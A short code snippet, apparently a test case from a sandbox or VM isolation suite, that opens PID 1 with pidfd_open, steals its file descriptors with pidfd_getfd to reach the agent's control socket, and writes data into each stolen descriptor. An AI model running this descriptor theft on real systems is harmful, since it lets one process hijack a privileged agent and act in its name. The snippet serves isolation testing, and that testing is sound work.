# Take the agent's control socket by pidfd_getfd, and speak in its name.
# vm: last
# own: its own agent, which is trusted with no more than the machine
pid = syscall(434, 1, 0)
for fd in range(10):
    stolen = syscall(438, pid, fd, 0)
    if stolen >= 0:
        reached(f"descriptor {fd}")
        os.write(stolen, b"\x00" * 64)
